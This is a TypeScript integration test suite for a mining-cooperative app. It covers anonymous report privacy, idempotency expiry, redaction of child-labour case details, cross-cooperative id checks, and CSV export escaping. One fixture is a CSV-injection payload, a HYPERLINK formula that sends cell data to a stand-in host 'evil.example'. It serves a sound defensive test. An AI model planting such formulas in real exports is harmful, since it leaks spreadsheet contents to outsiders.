import { createHash, randomUUID } from 'node:crypto';
import { mkdtempSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { Writable } from 'node:stream';
import request from 'supertest';
import { createApp } from '../src/app.js';
import { loadConfig } from '../src/config/config.js';
import { stableJson } from '../src/common/stable-json.js';
import { IdempotencyPurge } from '../src/jobs/idempotency-purge.js';
import { TEST_JWT_SECRET, type TestApp } from './support/test-app.js';
import { adminQuery, createTestDatabase } from './support/test-database.js';
import { bearer, member, twoCooperatives, type Session } from './support/identity-fixture.js';
import { minerRegistration } from './support/member-fixture.js';

const JPEG = Buffer.from([0xff, 0xd8, 0xff, 0xe0, 0x00, 0x10, 0x4a, 0x46, 0x49, 0x46, 0x00, 0x01, 0xff, 0xd9]);
const CHILD_WORDS = 'Kabila Mwenze, 12 ans, fils du chef de puits';
const FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"Cliquez")';

/** The application with its access log kept in memory, at info level, so the test can read every line. */
async function startLoggedApp(): Promise<TestApp & { lines: string[] }> {
  const { target, drop } = await createTestDatabase();
  const dataDir = mkdtempSync(join(tmpdir(), 'ushirika-test-data-'));
  const config = loadConfig({ NODE_ENV: 'test', LOG_LEVEL: 'info', JWT_SECRET: TEST_JWT_SECRET, DATA_DIR: dataDir });
  const lines: string[] = [];
  const stream = new Writable({
    write(chunk: Buffer, _encoding, done) {
      lines.push(...chunk.toString('utf8').split('\n').filter((line) => line.length > 0));
      done();
    },
  });
  const app = await createApp(config, target, stream);
  return {
    app,
    target,
    config,
    lines,
    http: () => request(app.getHttpServer()),
    async close() {
      await app.close();
      await drop();
      rmSync(dataDir, { recursive: true, force: true });
    },
  };
}

describe('risk trust: anonymous reports, child identities, references, CSV cells', () => {
  let t: TestApp & { lines: string[] };
  let coopA: string;
  let coopB: string;
  let admin: Session;
  let officer: Session;
  let caseOfficer: Session;
  let otherOfficer: Session;
  let treasurer: Session;
  let auditor: Session;
  let adminB: Session;
  let lualaba: Session;
  let base: string;

  beforeAll(async () => {
    t = await startLoggedApp();
    const two = await twoCooperatives(t, { supervisor: true });
    ({ coopA, coopB, adminB } = two);
    ({ admin, officer, treasurer, auditor } = two.inA);
    lualaba = two.lualabaSupervisor;
    caseOfficer = await member(t, two.operator, coopA, 'officer', 'case');
    otherOfficer = await member(t, two.operator, coopA, 'officer', 'other');
    base = `/api/v1/cooperatives/${coopA}`;
  });
  afterAll(async () => {
    await t.close();
  });

  const registerMiner = async (session: Session, cooperativeId: string, overrides: Record<string, unknown> = {}): Promise<string> =>
    ((await t.http().post(`/api/v1/cooperatives/${cooperativeId}/miners`).set(bearer(session)).send(minerRegistration(overrides)).expect(201)).body as { id: string }).id;

  describe('anonymous reports leave no trace of the reporter', () => {
    it('stores no idempotency row, no audit actor or request id, and no log line for an anonymous flag sent with an Idempotency-Key', async () => {
      const requestId = `anon-report-${randomUUID().slice(0, 8)}`;
      const id = randomUUID();
      const body = { id, category: 'illegal_taxation', description: 'Taxe au barrage de la rivière', anonymous: true };
      const sent = await t.http().post(`${base}/risk-flags`).set(bearer(officer)).set('Idempotency-Key', `anon-key-${id}`).set('X-Request-Id', requestId).send(body).expect(201);
      expect(sent.body).toMatchObject({ id, anonymous: true, reporterUserId: null });

      expect(await adminQuery(t.target.ownerUrl, 'SELECT key FROM idempotency_keys WHERE user_id = $1', [officer.userId])).toEqual([]);
      expect(await adminQuery(t.target.ownerUrl, `SELECT key FROM idempotency_keys WHERE response::text LIKE $1 OR path LIKE '%risk-flags%'`, [`%${id}%`])).toEqual([]);
      const audit = await adminQuery(t.target.ownerUrl, 'SELECT actor_user_id, request_id FROM audit_log WHERE entity_id = $1', [id]);
      expect(audit).toEqual([{ actor_user_id: null, request_id: null }]);
      expect(await adminQuery(t.target.ownerUrl, 'SELECT 1 FROM audit_log WHERE request_id = $1', [requestId])).toEqual([]);
      // Give the logger the moment it needs after the response, then read everything it wrote.
      await new Promise((resolve) => setTimeout(resolve, 50));
      expect(t.lines.filter((line) => line.includes(requestId) || line.includes(id))).toEqual([]);

      // Retry safety comes from the client's id: the resend is refused, nothing is duplicated.
      const again = await t.http().post(`${base}/risk-flags`).set(bearer(officer)).set('Idempotency-Key', `anon-key-${id}`).send(body).expect(409);
      expect(again.body.code).toBe('FLAG_EXISTS');
      expect(await adminQuery(t.target.ownerUrl, 'SELECT count(*)::int AS n FROM risk_flags WHERE id = $1', [id])).toEqual([{ n: 1 }]);
      expect(t.lines.some((line) => line.includes(officer.userId))).toBe(false);
    });

    it('keeps no idempotency row nor log line for evidence sent on an anonymous flag', async () => {
      const id = randomUUID();
      await t.http().post(`${base}/risk-flags`).set(bearer(officer)).send({ id, category: 'bribery_fraud_origin', description: 'Pot-de-vin', anonymous: true }).expect(201);
      const requestId = `anon-evidence-${randomUUID().slice(0, 8)}`;
      await t.http().post(`${base}/risk-flags/${id}/evidence`).set(bearer(officer)).set('Content-Type', 'image/jpeg').set('Idempotency-Key', `anon-evidence-${id}`)
        .set('X-Request-Id', requestId).send(JPEG).expect(201);
      expect(await adminQuery(t.target.ownerUrl, 'SELECT key FROM idempotency_keys WHERE user_id = $1', [officer.userId])).toEqual([]);
      await new Promise((resolve) => setTimeout(resolve, 50));
      expect(t.lines.filter((line) => line.includes(requestId))).toEqual([]);
    });

    it('still stores, replays and logs a named flag sent with an Idempotency-Key', async () => {
      const requestId = `named-report-${randomUUID().slice(0, 8)}`;
      const body = { category: 'environmental_damage', description: 'Boue dans la rivière' };
      const first = await t.http().post(`${base}/risk-flags`).set(bearer(officer)).set('Idempotency-Key', 'named-key-0001').set('X-Request-Id', requestId).send(body).expect(201);
      const replay = await t.http().post(`${base}/risk-flags`).set(bearer(officer)).set('Idempotency-Key', 'named-key-0001').send(body).expect(201);
      expect(replay.headers['idempotent-replay']).toBe('true');
      expect(replay.body.id).toBe(first.body.id);
      await new Promise((resolve) => setTimeout(resolve, 50));
      expect(t.lines.filter((line) => line.includes(requestId))).toHaveLength(1);
    });
  });

  describe('idempotency rows expire', () => {
    const path = (): string => `${base}/risk-flags`;
    const hash = (body: unknown): string => createHash('sha256').update(`POST ${path()}\n${stableJson(body)}`).digest('hex');

    it('never replays a row older than the retention and purges every user\'s expired rows', async () => {
      const body = { category: 'accident', description: 'Éboulement sans blessé' };
      const stale = { id: randomUUID(), stale: true };
      await adminQuery(
        t.target.ownerUrl,
        `INSERT INTO idempotency_keys (user_id, key, method, path, request_hash, status, response, created_at)
         VALUES ($1, 'stale-key-0001', 'POST', $2, $3, 201, $4, now() - make_interval(hours => $5 + 1))`,
        [admin.userId, path(), hash(body), JSON.stringify(stale), t.config.IDEMPOTENCY_RETENTION_HOURS],
      );
      const sent = await t.http().post(path()).set(bearer(admin)).set('Idempotency-Key', 'stale-key-0001').send(body).expect(201);
      expect(sent.headers['idempotent-replay']).toBeUndefined();
      expect(sent.body.id).not.toBe(stale.id);
      expect(sent.body).toMatchObject({ category: 'accident' });

      for (const [user, key, hoursAgo] of [[auditor.userId, 'old-auditor-key', t.config.IDEMPOTENCY_RETENTION_HOURS + 5], [treasurer.userId, 'fresh-treasurer-key', 1]] as const) {
        await adminQuery(
          t.target.ownerUrl,
          `INSERT INTO idempotency_keys (user_id, key, method, path, request_hash, status, response, created_at)
           VALUES ($1, $2, 'POST', '/x', 'h', 201, '{}', now() - make_interval(hours => $3))`,
          [user, key, hoursAgo],
        );
      }
      expect(await t.app.get(IdempotencyPurge).purgeExpired()).toBeGreaterThanOrEqual(1);
      const left = await adminQuery<{ key: string }>(t.target.ownerUrl, `SELECT key FROM idempotency_keys WHERE key IN ('old-auditor-key', 'fresh-treasurer-key')`);
      expect(left).toEqual([{ key: 'fresh-treasurer-key' }]);
    });
  });

  describe('a child-labour flag\'s words: admins and designated case officers only', () => {
    let childFlag: string;
    let minerId: string;
    let plainFlag: string;

    beforeAll(async () => {
      minerId = await registerMiner(officer, coopA);
      childFlag = ((await t.http().post(`${base}/risk-flags`).set(bearer(officer))
        .send({ category: 'worst_forms_child_labour', description: CHILD_WORDS, people: [{ description: 'garçon, 12 ans, t-shirt rouge' }, { minerId }] }).expect(201)).body as { id: string }).id;
      plainFlag = ((await t.http().post(`${base}/risk-flags`).set(bearer(officer)).send({ category: 'environmental_damage', description: 'Rejet de boue' }).expect(201)).body as { id: string }).id;
      await t.http().post(`${base}/risk-flags/${childFlag}/transitions`).set(bearer(admin)).send({ to: 'acknowledged', reason: 'Vu avec Kabila Mwenze' }).expect(201);
      await t.http().post(`${base}/risk-flags/${childFlag}/evidence`).set(bearer(officer)).set('Content-Type', 'image/jpeg').set('X-File-Name', 'kabila-mwenze.jpg').send(JPEG).expect(201);
    });

    const read = async (session: Session, id: string): Promise<Record<string, unknown>> =>
      (await t.http().get(`${base}/risk-flags/${id}`).set(bearer(session)).expect(200)).body as Record<string, unknown>;
    const listed = async (session: Session, id: string): Promise<Record<string, unknown> | undefined> =>
      ((await t.http().get(`${base}/risk-flags`).query({ limit: 200 }).set(bearer(session)).expect(200)).body.items as Record<string, unknown>[]).find((flag) => flag.id === id);

    function expectRedacted(flag: Record<string, unknown> | undefined): void {
      expect(flag).toMatchObject({ redacted: true, description: null, people: [], peopleCount: 2, category: 'worst_forms_child_labour' });
      expect(JSON.stringify(flag)).not.toContain('Kabila');
      expect(JSON.stringify(flag)).not.toContain(minerId);
    }

    it('shows counts only to supervisors, auditors, treasurers and officers not designated, in the detail and the list', async () => {
      for (const session of [lualaba, auditor, treasurer, caseOfficer, otherOfficer]) {
        expectRedacted(await read(session, childFlag));
        expectRedacted(await listed(session, childFlag));
      }
      // Other categories keep their words for every role.
      expect(await read(auditor, plainFlag)).toMatchObject({ redacted: false, description: 'Rejet de boue' });
    });

    it('shows the words to admins, the reporting officer, and an officer once designated on the case', async () => {
      for (const session of [admin, officer]) {
        expect(await read(session, childFlag)).toMatchObject({ redacted: false, description: CHILD_WORDS, peopleCount: 2 });
      }
      await t.http().post(`${base}/child-labour-cases`).set(bearer(admin))
        .send({ flagId: childFlag, child: { fullName: 'Kabila Mwenze', sex: 'male', ageYears: 12 }, caseOfficerUserIds: [caseOfficer.userId] }).expect(201);
      const designated = await read(caseOfficer, childFlag);
      expect(designated).toMatchObject({ redacted: false, description: CHILD_WORDS });
      expect((designated.transitions as { reason: string | null }[]).map((transition) => transition.reason)).toEqual(['Vu avec Kabila Mwenze']);
      expect(await listed(caseOfficer, childFlag)).toMatchObject({ redacted: false, description: CHILD_WORDS });
      expectRedacted(await read(otherOfficer, childFlag));
      expect(((await read(auditor, childFlag)).transitions as { reason: string | null }[]).map((transition) => transition.reason)).toEqual([null]);
    });

    it('keeps the child out of the audit trail and the evidence out of reach of others', async () => {
      const audit = await adminQuery<{ after: unknown }>(t.target.ownerUrl, `SELECT after FROM audit_log WHERE entity_id = $1 OR after->>'flagId' = $1`, [childFlag]);
      expect(JSON.stringify(audit)).not.toContain('Kabila');
      expect(JSON.stringify(audit).toLowerCase()).not.toContain('kabila-mwenze');
      const evidence = (await t.http().get(`${base}/risk-flags/${childFlag}/evidence`).set(bearer(auditor)).expect(200)).body as { id: string; originalName: string | null }[];
      expect(evidence.map((item) => item.originalName)).toEqual([null]);
      const first = evidence[0]?.id ?? '';
      await t.http().get(`${base}/risk-flags/${childFlag}/evidence/${first}`).set(bearer(otherOfficer)).expect(403);
      await t.http().get(`${base}/risk-flags/${childFlag}/evidence/${first}`).set(bearer(caseOfficer)).expect(200);
      const named = (await t.http().get(`${base}/risk-flags/${childFlag}/evidence`).set(bearer(admin)).expect(200)).body as { originalName: string | null }[];
      expect(named.map((item) => item.originalName)).toEqual(['kabila-mwenze.jpg']);
    });
  });

  describe('a gate event\'s unknown-person description', () => {
    it('reaches no reader of gate events, flags or the audit trail', async () => {
      const siteId = ((await t.http().post(`${base}/sites`).set(bearer(admin))
        .send({ name: 'Kasulo', code: 'kas-trust', minerals: ['HETEROGENITE'], location: { latitudeE6: -10712345, longitudeE6: 25468000 } }).expect(201)).body as { id: string }).id;
      const zoneId = ((await t.http().post(`${base}/sites/${siteId}/zones`).set(bearer(admin)).send({ name: 'Carrière' }).expect(201)).body as { id: string }).id;
      const words = 'Petit Tshibangu, fils de Mwamba, t-shirt rouge';
      const event = await t.http().post(`${base}/sites/${siteId}/gate`).set(bearer(officer)).set('Idempotency-Key', `gate-${randomUUID()}`)
        .send({ capturedAt: new Date().toISOString(), zoneId, direction: 'in', unknownPerson: { description: words, apparentMinor: true } }).expect(201);
      expect(JSON.stringify(event.body)).not.toContain('Tshibangu');
      for (const session of [lualaba, auditor, treasurer, otherOfficer, admin]) {
        const events = await t.http().get(`${base}/sites/${siteId}/gate-events`).set(bearer(session)).expect(200);
        expect(events.body.items).toHaveLength(1);
        expect(JSON.stringify(events.body)).not.toContain('Tshibangu');
      }
      const flagId = (event.body as { flags: { id: string }[] }).flags[0]?.id ?? '';
      expect(JSON.stringify(await t.http().get(`${base}/risk-flags/${flagId}`).set(bearer(lualaba)).expect(200).then((response) => response.body as unknown))).not.toContain('Tshibangu');
      const traces = await adminQuery(t.target.ownerUrl, `SELECT (SELECT json_agg(after) FROM audit_log) AS audit, (SELECT json_agg(response) FROM idempotency_keys) AS answers`);
      expect(JSON.stringify(traces)).not.toContain('Tshibangu');
    });
  });

  describe('ids in a risk body belong to the caller\'s cooperative', () => {
    it('refuses another cooperative\'s miner with the answer of an id that does not exist', async () => {
      const minerOfA = await registerMiner(officer, coopA);
      const flagOfB = (people: unknown[]) => t.http().post(`/api/v1/cooperatives/${coopB}/risk-flags`).set(bearer(adminB)).send({ category: 'forced_labour', description: 'Travail forcé', people });
      const foreign = await flagOfB([{ minerId: minerOfA }]).expect(422);
      const missing = await flagOfB([{ minerId: '00000000-0000-4000-8000-000000000000' }]).expect(422);
      expect(foreign.body.code).toBe('FLAG_PERSON_UNKNOWN');
      const answer = (body: Record<string, unknown>) => ({ ...body, detail: undefined, instance: undefined, params: undefined, requestId: undefined });
      expect(answer(foreign.body as Record<string, unknown>)).toEqual(answer(missing.body as Record<string, unknown>));
      expect(await adminQuery(t.target.ownerUrl, `SELECT 1 FROM risk_flags WHERE cooperative_id = $1 AND people::text LIKE $2`, [coopB, `%${minerOfA}%`])).toEqual([]);
      const own = await registerMiner(adminB, coopB);
      const accepted = await flagOfB([{ minerId: own }]).expect(201);
      expect(accepted.body.people).toEqual([{ minerId: own }]);
    });

    it('refuses another cooperative\'s site, action owner and case officer like unknown ones', async () => {
      const flagOfB = ((await t.http().post(`/api/v1/cooperatives/${coopB}/risk-flags`).set(bearer(adminB)).send({ category: 'accident', description: 'Chute' }).expect(201)).body as { id: string }).id;
      const siteOfA = randomUUID();
      await adminQuery(t.target.ownerUrl, `INSERT INTO sites (cooperative_id, id, name, code, latitude_e6, longitude_e6, created_by) VALUES ($1, $2, 'A', 'A-1', -10712345, 25468000, gen_random_uuid())`, [coopA, siteOfA]);
      const site = await t.http().post(`/api/v1/cooperatives/${coopB}/risk-flags`).set(bearer(adminB)).send({ category: 'accident', description: 'x', siteId: siteOfA }).expect(422);
      expect(site.body.code).toBe('SITE_REFERENCE_UNKNOWN');
      const owner = (ownerUserId: string) => t.http().post(`/api/v1/cooperatives/${coopB}/risk-flags/${flagOfB}/actions`).set(bearer(adminB)).send({ description: 'Étayer', ownerUserId, dueOn: '2030-01-01' });
      const foreignOwner = await owner(officer.userId).expect(422);
      const unknownOwner = await owner(randomUUID()).expect(422);
      expect(foreignOwner.body.code).toBe(unknownOwner.body.code);
      const childOfB = ((await t.http().post(`/api/v1/cooperatives/${coopB}/risk-flags`).set(bearer(adminB)).send({ category: 'worst_forms_child_labour', description: 'Enfant' }).expect(201)).body as { id: string }).id;
      const designate = (userId: string) => t.http().post(`/api/v1/cooperatives/${coopB}/child-labour-cases`).set(bearer(adminB))
        .send({ flagId: childOfB, child: { fullName: 'Enfant B', sex: 'female', ageYears: 11 }, caseOfficerUserIds: [userId] });
      const foreignOfficer = await designate(officer.userId).expect(422);
      const unknownOfficer = await designate(randomUUID()).expect(422);
      expect(foreignOfficer.body.code).toBe('CASE_OFFICER_NOT_OFFICER');
      expect(unknownOfficer.body.code).toBe('CASE_OFFICER_NOT_OFFICER');
    });
  });

  describe('CSV cells a spreadsheet would evaluate', () => {
    it('neutralises a miner named as a formula in export.csv', async () => {
      await registerMiner(officer, coopA, { lastName: FORMULA, firstName: '+SUM(1,2)', middleName: '@cmd' });
      const csv = await t.http().get(`${base}/miners/export.csv`).set(bearer(admin)).expect(200);
      const line = csv.text.split('\n').find((row) => row.includes('HYPERLINK')) ?? '';
      expect(line).toContain(`"'=HYPERLINK(""http://evil.example/?x=""&A1,""Cliquez"")"`);
      expect(line).toContain(`'@cmd`);
      expect(line).toContain(`'+SUM(1,2)`);
      expect(csv.text).not.toMatch(/(^|,)"?[=+@]/m);
    });

    it('neutralises a formula in a report CSV', async () => {
      await adminQuery(t.target.ownerUrl, 'UPDATE cooperatives SET name = $1 WHERE id = $2', ['@SUM(A1:A9)', coopA]);
      const month = new Date().toISOString().slice(0, 7);
      const report = (await t.http().post(`${base}/reports`).set(bearer(admin)).send({ period: month }).expect(201)).body as { id: string };
      const zip = await t.http().get(`${base}/reports/${report.id}.csv.zip`).set(bearer(admin)).buffer(true)
        .parse((response, done) => {
          const chunks: Buffer[] = [];
          response.on('data', (chunk: Buffer) => chunks.push(chunk));
          response.on('end', () => done(null, Buffer.concat(chunks)));
        })
        .expect(200);
      const { unzipSync, strFromU8 } = await import('fflate');
      const files = unzipSync(new Uint8Array(zip.body as Buffer));
      const cooperative = strFromU8(files['cooperative.csv'] ?? new Uint8Array());
      expect(cooperative).toContain(`'@SUM(A1:A9)`);
      expect(cooperative).not.toMatch(/(^|,)@SUM/m);
    });
  });
});
